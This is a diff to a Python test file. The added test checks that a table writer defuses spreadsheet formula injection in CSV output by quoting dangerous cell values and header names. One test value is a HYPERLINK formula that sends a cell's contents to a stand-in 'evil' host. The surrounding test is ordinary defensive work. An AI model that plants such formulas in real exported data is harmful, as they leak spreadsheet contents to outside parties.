@@ -82,3 +82,18 @@ def test_a_failing_writer_leaves_the_earlier_file_and_no_part(tmp_path: Path) ->
         tables_io.atomically(target, half)
     assert [path.name for path in tmp_path.iterdir()] == ["com.csv"]
     assert target.read_text() == "before"
+
+
+FORMULAS = ['=HYPERLINK("http://evil?"&A2,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1"]
+HARMLESS = ["Jane Doe", "-1.5", "+2e3", "a=b", "", "P-07", " ", "'quoted"]
+
+
+def test_a_spreadsheet_runs_no_text_of_a_table(tmp_path: Path) -> None:
+    given = np.array([*FORMULAS, *HARMLESS], dtype=object)
+    tables_io.write_table(tmp_path, "subjects", {"subject": given, "=1+1": np.arange(len(given)) - 5.0}, {})
+    with (tmp_path / "subjects.csv").open(encoding="utf-8", newline="") as file:
+        header, *lines = list(csv.reader(file))
+    assert header == ["subject", "'=1+1"]
+    assert [line[0] for line in lines] == [f"'{text}" for text in FORMULAS] + HARMLESS
+    assert [float(line[1]) for line in lines] == (np.arange(len(given)) - 5.0).tolist(), "numbers are no text"
+    assert pq.read_table(tmp_path / "subjects.parquet")["subject"].to_pylist() == given.tolist()
